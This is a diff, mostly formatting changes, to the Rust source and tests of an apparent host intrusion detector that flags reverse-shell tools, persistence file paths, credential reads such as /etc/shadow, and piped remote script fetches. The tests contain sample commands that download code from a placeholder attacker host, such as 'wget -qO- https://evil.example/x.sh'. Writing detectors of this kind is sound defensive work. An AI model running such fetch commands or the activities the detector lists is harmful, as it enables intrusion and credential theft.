@@ -115,24 +115,49 @@ pub const CI_RUNNERS: &[&str] = &[
 ];
 /// Build tools.
 pub const BUILD_TOOLS: &[&str] = &[
-    "make", "gmake", "cmake", "ninja", "cargo", "rustc", "go", "gcc", "cc", "g++", "clang",
-    "mvn", "gradle", "bazel", "meson",
+    "make", "gmake", "cmake", "ninja", "cargo", "rustc", "go", "gcc", "cc", "g++", "clang", "mvn",
+    "gradle", "bazel", "meson",
 ];
 /// Process managers at the root of every tree.
 pub const INITS: &[&str] = &["systemd", "init", "tini", "dumb-init", "s6-svscan", "runsv"];
 /// Network tools whose connections are a reverse shell's or a tunnel's.
-pub const NET_TOOLS: &[&str] = &["nc", "ncat", "netcat", "socat", "telnet", "nc.openbsd", "nc.traditional"];
+pub const NET_TOOLS: &[&str] = &[
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "nc.openbsd",
+    "nc.traditional",
+];
 /// Accounts services run as: never a person at a terminal.
 pub const SYSTEM_ACCOUNTS: &[&str] = &[
-    "www-data", "nobody", "apache", "nginx", "http", "daemon", "bin", "sys", "mail", "postgres",
-    "mysql", "redis", "tomcat", "jenkins", "git", "nfsnobody", "_www", "node", "elasticsearch",
+    "www-data",
+    "nobody",
+    "apache",
+    "nginx",
+    "http",
+    "daemon",
+    "bin",
+    "sys",
+    "mail",
+    "postgres",
+    "mysql",
+    "redis",
+    "tomcat",
+    "jenkins",
+    "git",
+    "nfsnobody",
+    "_www",
+    "node",
+    "elasticsearch",
 ];
 /// Server ports ordinary clients connect to (web, mail, DNS, SSH, databases, object stores,
 /// monitoring): a connection to one by a non-shell client is not weighed.
 pub const COMMON_PORTS: &[u16] = &[
-    21, 22, 25, 53, 80, 88, 123, 389, 443, 465, 587, 636, 873, 993, 995, 2049, 2379, 3000,
-    3306, 5432, 5671, 5672, 6379, 6443, 8080, 8086, 8125, 8200, 8443, 8500, 9000, 9090, 9091,
-    9092, 9093, 9100, 9200, 9300, 11211, 27017,
+    21, 22, 25, 53, 80, 88, 123, 389, 443, 465, 587, 636, 873, 993, 995, 2049, 2379, 3000, 3306,
+    5432, 5671, 5672, 6379, 6443, 8080, 8086, 8125, 8200, 8443, 8500, 9000, 9090, 9091, 9092, 9093,
+    9100, 9200, 9300, 11211, 27017,
 ];
 /// Download tools.
 pub const DOWNLOADERS: &[&str] = &[
@@ -174,16 +199,43 @@ pub enum Sensitivity {
 pub fn is_persistence(path: &str) -> bool {
     let base = path.rsplit('/').next().unwrap_or(path);
     const NAMES: &[&str] = &[
-        ".bashrc", ".bash_profile", ".bash_login", ".profile", ".zshrc", ".zprofile",
-        ".zshenv", ".bash_logout", ".cshrc", ".tcshrc", ".kshrc", "ld.so.preload", "rc.local",
-        "crontab", "bash.bashrc", "profile", "environment",
+        ".bashrc",
+        ".bash_profile",
+        ".bash_login",
+        ".profile",
+        ".zshrc",
+        ".zprofile",
+        ".zshenv",
+        ".bash_logout",
+        ".cshrc",
+        ".tcshrc",
+        ".kshrc",
+        "ld.so.preload",
+        "rc.local",
+        "crontab",
+        "bash.bashrc",
+        "profile",
+        "environment",
     ];
     const PARTS: &[&str] = &[
-        "/etc/cron", "/var/spool/cron/", "/etc/systemd/system/", "/usr/lib/systemd/system/",
-        "/lib/systemd/system/", "/.config/systemd/user/", "/etc/profile.d/", "/etc/init.d/",
-        "/etc/rc.d/", "/etc/xdg/autostart/", "/.config/autostart/", "/etc/update-motd.d/",
+        "/etc/cron",
+        "/var/spool/cron/",
+        "/etc/systemd/system/",
+        "/usr/lib/systemd/system/",
+        "/lib/systemd/system/",
+        "/.config/systemd/user/",
+        "/etc/profile.d/",
+        "/etc/init.d/",
+        "/etc/rc.d/",
+        "/etc/xdg/autostart/",
+        "/.config/autostart/",
+        "/etc/update-motd.d/",
     ];
-    (NAMES.contains(&base) && (path.starts_with("/etc/") || path.starts_with("/root/") || path.starts_with("/home/") || !path.starts_with('/')))
+    (NAMES.contains(&base)
+        && (path.starts_with("/etc/")
+            || path.starts_with("/root/")
+            || path.starts_with("/home/")
+            || !path.starts_with('/')))
         || PARTS.iter().any(|p| path.contains(p))
 }
 
@@ -686,25 +738,44 @@ fn fetch_writes(name: &str, cmd: &str) -> Option<bool> {
             Some(writes)
         }
         "wget" => {
-            if words.iter().any(|w| *w == "--spider" || w.starts_with("--post-file")) {
+            if words
+                .iter()
+                .any(|w| *w == "--spider" || w.starts_with("--post-file"))
+            {
                 return None;
             }
             for (i, w) in words.iter().enumerate() {
                 let w = *w;
                 if w == "-O" || w == "--output-document" {
                     let d = next(i);
-                    return if d == "/dev/null" { None } else { Some(d != "-") };
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
                 }
                 if let Some(d) = w.strip_prefix("--output-document=") {
-                    return if d == "/dev/null" { None } else { Some(d != "-") };
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
                 }
                 if w.starts_with('-') && !w.starts_with("--") && w.ends_with('O') {
                     let d = next(i);
-                    return if d == "/dev/null" { None } else { Some(d != "-") };
+                    return if d == "/dev/null" {
+                        None
+                    } else {
+                        Some(d != "-")
+                    };
                 }
                 if let Some(d) = w.strip_prefix("-qO").or_else(|| w.strip_prefix("-O")) {
                     if !d.is_empty() {
-                        return if d == "/dev/null" { None } else { Some(d != "-") };
+                        return if d == "/dev/null" {
+                            None
+                        } else {
+                            Some(d != "-")
+                        };
                     }
                 }
             }
@@ -781,7 +852,10 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
                 || args.first().is_some_and(|a| *a == "-s" || *a == "-")
                 || (args.len() == 1 && matches!(args[0], "-i" | "-l"));
             let piped = text(ev, "proc.stdin_type").is_some_and(|t| t == "pipe");
-            if from_stdin && (piped || text(ev, "proc.stdin_type").is_none()) && int(ev, "proc.tty").is_none_or(|t| t == 0) {
+            if from_stdin
+                && (piped || text(ev, "proc.stdin_type").is_none())
+                && int(ev, "proc.tty").is_none_or(|t| t == 0)
+            {
                 return Some(Activity::ShellFromStdin(cmd));
             }
         }
@@ -800,7 +874,12 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
         let r = role(&name);
         let unusual_port = server_port(ev).is_none_or(|p| !COMMON_PORTS.contains(&p));
         let dropped = in_drop_dir(&text(ev, "proc.exepath").unwrap_or_default());
-        if r == Role::Shell || r == Role::Interpreter || NET_TOOLS.contains(&name.as_str()) || dropped || unusual_port {
+        if r == Role::Shell
+            || r == Role::Interpreter
+            || NET_TOOLS.contains(&name.as_str())
+            || dropped
+            || unusual_port
+        {
             return Some(Activity::Outbound(
                 text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
                 name,
@@ -811,7 +890,8 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
     if matches!(ty.as_str(), "dup" | "dup2" | "dup3") {
         let fdnum = int(ev, "evt.arg.newfd").or_else(|| int(ev, "fd.num"));
         let ftype = text(ev, "fd.type").unwrap_or_default();
-        if fdnum.is_some_and(|n| (0..=2).contains(&n)) && matches!(ftype.as_str(), "ipv4" | "ipv6") {
+        if fdnum.is_some_and(|n| (0..=2).contains(&n)) && matches!(ftype.as_str(), "ipv4" | "ipv6")
+        {
             return Some(Activity::NetworkStdio(text(ev, "fd.name").unwrap_or(ftype)));
         }
         return None;
@@ -820,11 +900,15 @@ pub fn activity(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option
         let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
         let path = text(ev, "fd.name")?;
         let reader = text(ev, "proc.name").unwrap_or_default();
-        if flag("evt.is_open_read") && is_credential(&path) && int(ev, "fd.num").is_none_or(|n| n >= 0) {
+        if flag("evt.is_open_read")
+            && is_credential(&path)
+            && int(ev, "fd.num").is_none_or(|n| n >= 0)
+        {
             return Some(Activity::CredentialRead(path, reader));
         }
         let write = flag("evt.is_open_write")
-            || text(ev, "evt.arg.flags").is_some_and(|f| f.contains("O_WRONLY") || f.contains("O_RDWR"));
+            || text(ev, "evt.arg.flags")
+                .is_some_and(|f| f.contains("O_WRONLY") || f.contains("O_RDWR"));
         if write && in_drop_dir(&path) && int(ev, "fd.num").is_none_or(|n| n >= 0) {
             return Some(Activity::WroteFile(path, reader));
         }
@@ -874,7 +958,10 @@ mod tests {
         assert_eq!(sensitivity(""), Sensitivity::Medium);
         assert_eq!(sensitivity("/home/ops/.bashrc"), Sensitivity::Persistence);
         assert_eq!(sensitivity("/etc/cron.d/job"), Sensitivity::Persistence);
-        assert_eq!(sensitivity("/etc/systemd/system/x.service"), Sensitivity::Persistence);
+        assert_eq!(
+            sensitivity("/etc/systemd/system/x.service"),
+            Sensitivity::Persistence
+        );
         assert_eq!(sensitivity("/srv/app/profile"), Sensitivity::Medium);
     }
 
@@ -942,7 +1029,10 @@ mod tests {
         );
         assert_eq!(
             r,
-            Some(Activity::CredentialRead("/etc/shadow".into(), String::new()))
+            Some(Activity::CredentialRead(
+                "/etc/shadow".into(),
+                String::new()
+            ))
         );
         let m = activity(
             &ev(r#"{"evt.type":"execve","evt.rawres":0,"proc.name":"dpkg"}"#),
@@ -962,8 +1052,17 @@ mod tests {
         let stdout = |a: Option<Activity>| matches!(a, Some(Activity::FetchToStdout(..)));
         // Health checks and local API calls: not downloads.
         assert!(!dl(exec("curl", "curl -fsS http://localhost:8080/healthz")));
-        assert!(stdout(exec("curl", "curl -fsS http://localhost:8080/healthz")));
-        assert_eq!(exec("curl", "curl -s -o /dev/null -w %{http_code} http://127.0.0.1/health"), None);
+        assert!(stdout(exec(
+            "curl",
+            "curl -fsS http://localhost:8080/healthz"
+        )));
+        assert_eq!(
+            exec(
+                "curl",
+                "curl -s -o /dev/null -w %{http_code} http://127.0.0.1/health"
+            ),
+            None
+        );
         // Uploads to a backup server.
         for up in [
             "curl -T /var/backups/db.tar.gz https://backup.example.com/up/",
@@ -977,14 +1076,26 @@ mod tests {
         // Fetches that write a file.
         assert!(dl(exec("curl", "curl -sSLo /tmp/x https://evil.example/x")));
         assert!(dl(exec("curl", "curl -O https://evil.example/x")));
-        assert!(dl(exec("curl", "curl -s -o /tmp/p http://127.0.0.1:8000/p")));
+        assert!(dl(exec(
+            "curl",
+            "curl -s -o /tmp/p http://127.0.0.1:8000/p"
+        )));
         assert!(dl(exec("wget", "wget https://evil.example/x")));
         assert!(stdout(exec("wget", "wget -qO- https://evil.example/x.sh")));
         assert!(dl(exec("scp", "scp user@host:/srv/x /tmp/x")));
-        assert_eq!(exec("rsync", "rsync -a /var/backups/ backup.example.com:/srv/b/"), None);
+        assert_eq!(
+            exec("rsync", "rsync -a /var/backups/ backup.example.com:/srv/b/"),
+            None
+        );
         // A shell reading its program from a pipe.
-        assert!(matches!(exec("sh", "sh"), Some(Activity::ShellFromStdin(_))));
-        assert!(matches!(exec("bash", "bash -s -- --flag"), Some(Activity::ShellFromStdin(_))));
+        assert!(matches!(
+            exec("sh", "sh"),
+            Some(Activity::ShellFromStdin(_))
+        ));
+        assert!(matches!(
+            exec("bash", "bash -s -- --flag"),
+            Some(Activity::ShellFromStdin(_))
+        ));
         assert_eq!(exec("bash", "bash /opt/run.sh"), None);
     }
 
@@ -1006,31 +1117,71 @@ mod tests {
     fn interactive_needs_a_person() {
         let i = |j: &str| actor(&ev(j)).interactive();
         // A person: a tty with a login or a runtime exec entry.
-        assert!(i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}"#));
-        assert!(i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc"}"#));
+        assert!(i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd"}"#
+        ));
+        assert!(i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc"}"#
+        ));
         // What started the runtime (host side) is not how the container was entered.
-        let a = actor(&ev(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"sshd","proc.aname[4]":"httpd"}"#));
+        let a = actor(&ev(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"runc","proc.aname[3]":"sshd","proc.aname[4]":"httpd"}"#,
+        ));
         assert_eq!((a.entry, a.service), (None, None));
         // A tty alone, sudo alone, or a runtime exec without a tty (piped): no.
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash"}"#));
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sudo"}"#));
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sudo"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":0,"proc.pname":"sh","proc.aname[2]":"runc"}"#
+        ));
         // A service in the lineage, a service account, a network stdin: no.
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#));
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"www-data","user.uid":33}"#));
-        assert!(!i(r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.uid":998,"user.loginuid":998}"#));
-        assert!(!i(r#"{"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd","proc.stdin_type":"ipv4"}"#));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"www-data","user.uid":33}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"rm","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.uid":998,"user.loginuid":998}"#
+        ));
+        assert!(!i(
+            r#"{"proc.name":"bash","proc.tty":34816,"proc.pname":"sshd","proc.stdin_type":"ipv4"}"#
+        ));
         // An admin who changed to a service user keeps their login uid: still a person.
-        assert!(i(r#"{"proc.name":"psql","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"postgres","user.uid":999,"user.loginuid":1000}"#));
+        assert!(i(
+            r#"{"proc.name":"psql","proc.tty":34816,"proc.pname":"bash","proc.aname[2]":"sshd","user.name":"postgres","user.uid":999,"user.loginuid":1000}"#
+        ));
     }
 
     #[test]
     fn lineage_shapes() {
         let sh = |j: &str| shape(&ev(j));
-        assert_eq!(sh(r#"{"proc.name":"rm","proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#), "shell<login<init");
-        assert_eq!(sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#), "shell<service<runtime");
-        assert_eq!(sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"runc"}"#), "shell<runtime");
-        assert_eq!(sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"bash","proc.aname[3]":"cron"}"#), "shell<scheduler");
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.pname":"bash","proc.aname[2]":"sshd","proc.aname[3]":"systemd"}"#
+            ),
+            "shell<login<init"
+        );
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"httpd","proc.aname[3]":"runc"}"#
+            ),
+            "shell<service<runtime"
+        );
+        assert_eq!(
+            sh(r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"runc"}"#),
+            "shell<runtime"
+        );
+        assert_eq!(
+            sh(
+                r#"{"proc.name":"rm","proc.aname[1]":"sh","proc.aname[2]":"bash","proc.aname[3]":"cron"}"#
+            ),
+            "shell<scheduler"
+        );
         assert_eq!(sh(r#"{"proc.name":"rm"}"#), "?");
         assert_eq!(role("python3.11"), Role::Interpreter);
         assert_eq!(role("containerd-shim-runc-v2"), Role::Runtime);
@@ -1038,9 +1189,21 @@ mod tests {
 
     #[test]
     fn service_accounts() {
-        assert_eq!(system_account(&ev(r#"{"user.name":"www-data","user.uid":33}"#)).as_deref(), Some("www-data"));
-        assert_eq!(system_account(&ev(r#"{"user.name":"svc","user.uid":999}"#)).as_deref(), Some("svc"));
-        assert_eq!(system_account(&ev(r#"{"user.name":"root","user.uid":0}"#)), None);
-        assert_eq!(system_account(&ev(r#"{"user.name":"alice","user.uid":1000}"#)), None);
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"www-data","user.uid":33}"#)).as_deref(),
+            Some("www-data")
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"svc","user.uid":999}"#)).as_deref(),
+            Some("svc")
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"root","user.uid":0}"#)),
+            None
+        );
+        assert_eq!(
+            system_account(&ev(r#"{"user.name":"alice","user.uid":1000}"#)),
+            None
+        );
     }
 }
